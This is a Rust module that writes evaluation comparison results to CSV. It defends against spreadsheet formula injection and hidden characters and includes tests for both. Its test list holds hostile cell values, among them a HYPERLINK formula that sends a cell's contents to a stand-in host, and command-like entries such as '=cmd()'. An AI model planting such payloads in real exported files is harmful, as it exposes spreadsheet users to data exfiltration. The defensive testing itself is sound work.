//! A comparison as a table for spreadsheets: one row a case.

use std::collections::{BTreeMap, HashMap};

use crate::{
    compare::{CaseChange, Comparison, Count, FlipAnswers, FlipRow, Side, SideCase, side_by_side},
    domain::{
        CaseId,
        text::{is_unseen, visible},
    },
};

/// The columns. Those that end in `_text` hold text, whose cells begin with `'` where a spreadsheet
/// would otherwise run them.
const COLUMNS: [&str; 17] = [
    "case_text",
    "cluster_text",
    "split",
    "weight",
    "change",
    "baseline_passes",
    "baseline_measured",
    "candidate_passes",
    "candidate_measured",
    "mark",
    "q",
    "hard",
    "signed_off_text",
    "confirmed",
    "baseline_answer_text",
    "candidate_answer_text",
    "reason_text",
];

/// A comparison as CSV, with a heading.
///
/// # Panics
/// Never: it is written to memory.
pub(super) fn comparison_csv(
    comparison: &Comparison,
    sides: [&Side; 2],
    answers: &BTreeMap<CaseId, FlipAnswers>,
) -> String {
    let flips: HashMap<&CaseId, &FlipRow> = comparison.flips.rows.iter().map(|row| (&row.id, row)).collect();
    let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(vec![]);
    let mut write = |row: [String; COLUMNS.len()]| writer.write_record(row).expect("memory can be written");
    write(COLUMNS.map(ToOwned::to_owned));
    for (baseline, candidate) in side_by_side(sides) {
        let case = candidate.or(baseline).expect("a case is on one side at least");
        let flip = flips.get(&case.id);
        let answers = answers.get(&case.id);
        let count = |side: Option<&SideCase>, pick: fn(Count) -> u32| {
            side.map(|case| pick(case.count).to_string()).unwrap_or_default()
        };
        let answer =
            |pick: fn(&FlipAnswers) -> &str| answers.map(|answers| text(pick(answers))).unwrap_or_default();
        write([
            text(case.id.as_str()),
            text(&case.cluster),
            case.split.map(|split| split.as_str().to_owned()).unwrap_or_default(),
            case.weight.to_string(),
            CaseChange::of(baseline, candidate).as_str().to_owned(),
            count(baseline, |count| count.passes),
            count(baseline, |count| count.measured),
            count(candidate, |count| count.passes),
            count(candidate, |count| count.measured),
            flip.map(|row| row.mark.as_str().to_owned()).unwrap_or_default(),
            flip.and_then(|row| row.q).map(|q| format!("{q:.6}")).unwrap_or_default(),
            flip.map(|row| row.hard.to_string()).unwrap_or_default(),
            flip.and_then(|row| row.signed_off.as_deref()).map(text).unwrap_or_default(),
            flip.and_then(|row| row.confirmed)
                .map(|confirmed| confirmed.as_str().to_owned())
                .unwrap_or_default(),
            answer(|answers| &answers.baseline),
            answer(|answers| &answers.candidate),
            answer(|answers| &answers.reason),
        ]);
    }
    let bytes = writer.into_inner().expect("memory can be written");
    String::from_utf8(bytes).expect("every cell is text")
}

/// A cell of text that no spreadsheet runs: what it would take for a formula gets a leading `'`.
///
/// A formula begins with `=`, `+`, `-` or `@`, in their full-width and small forms too, also behind
/// blanks and characters of no width; a leading tab, carriage return or line feed hides one. Quoting
/// a cell does not help. A plain number stays what it is.
///
/// Source: OWASP, *CSV Injection*.
///
/// What cannot be seen is written out: a table is shown on terminals, too.
fn text(cell: &str) -> String {
    let guard = if runs(cell) && !is_number(cell) { "'" } else { "" };
    format!("{guard}{}", visible(&cell.replace("\r\n", "\n")))
}

fn runs(cell: &str) -> bool {
    let unseen = |character: char| character.is_whitespace() || is_unseen(character);
    let seen = cell.trim_start_matches(unseen);
    let hidden = &cell[..cell.len() - seen.len()];
    let begins = |character: char| {
        matches!(
            character,
            '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '﹦' | '﹢' | '﹣' | '﹫' | '−'
        )
    };
    seen.starts_with(begins) || hidden.contains(['\t', '\r', '\n'])
}

/// Whether the text is a number that every spreadsheet reads as one: `-5`, `-0.25`, `1e-5`.
fn is_number(cell: &str) -> bool {
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let unsigned = cell.strip_prefix('-').unwrap_or(cell);
    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
        Some((mantissa, exponent)) => (mantissa, Some(exponent)),
        None => (unsigned, None),
    };
    let (whole, part) = match mantissa.split_once('.') {
        Some((whole, part)) => (whole, Some(part)),
        None => (mantissa, None),
    };
    let exponent = exponent.map(|text| text.strip_prefix(['+', '-']).unwrap_or(text));
    digits(whole) && part.is_none_or(digits) && exponent.is_none_or(digits)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::comparison::fixture::{
        comparison, hostile_answers, sides, sides_with_flips, with_flips,
    };

    #[test]
    fn a_table_reads_as_before() {
        let [baseline, candidate] = sides();
        insta::assert_snapshot!(comparison_csv(&comparison(), [&baseline, &candidate], &BTreeMap::new()));
    }

    #[test]
    fn what_a_spreadsheet_would_run_is_text() {
        for cell in [
            "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
            "+1 555",
            "-cmd",
            "@SUM(1)",
            "\t=1+1",
            "\r=1",
            "\tplain",
            " =1+1",
            "\u{200b}=1+1",
            "\u{feff} \u{a0}=1+1",
            "＝1+1",
            " ＠x",
            "-Infinity",
            "+NaN",
            "+15",
            "-",
            "-1,5",
            "−1",
        ] {
            assert_eq!(text(cell), format!("'{}", visible(cell)), "{cell:?}");
        }
        for cell in ["", "a=b", "-5", "-0.25", "1e-5", "-1.5E+3", "It is -5.", "'=1", "7"] {
            assert_eq!(text(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn a_cell_holds_nothing_that_cannot_be_seen() {
        for (cell, shown) in [
            ("a\u{1b}[31mb\0c\u{9b}d", "a\\u{1b}[31mb\\u{0}c\\u{9b}d"),
            ("a\u{202e}b\u{e0041}\u{ad}", "a\\u{202e}b\\u{e0041}\\u{ad}"),
            ("two\r\nlines", "two\nlines"),
        ] {
            assert_eq!(text(cell), shown);
        }
    }

    #[test]
    fn hostile_answers_stay_in_their_cells() {
        let [baseline, candidate] = sides_with_flips(6);
        let table = comparison_csv(&with_flips(6), [&baseline, &candidate], &hostile_answers());
        let mut reader = csv::Reader::from_reader(table.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), baseline.cases.len());
        for row in &rows {
            assert_eq!(row.len(), COLUMNS.len());
            assert!(row.iter().all(|cell| !runs(cell) || is_number(cell)), "{row:?}");
        }
        assert!(rows.iter().any(|row| row.iter().any(|cell| cell.starts_with("'=cmd()"))));
    }
}
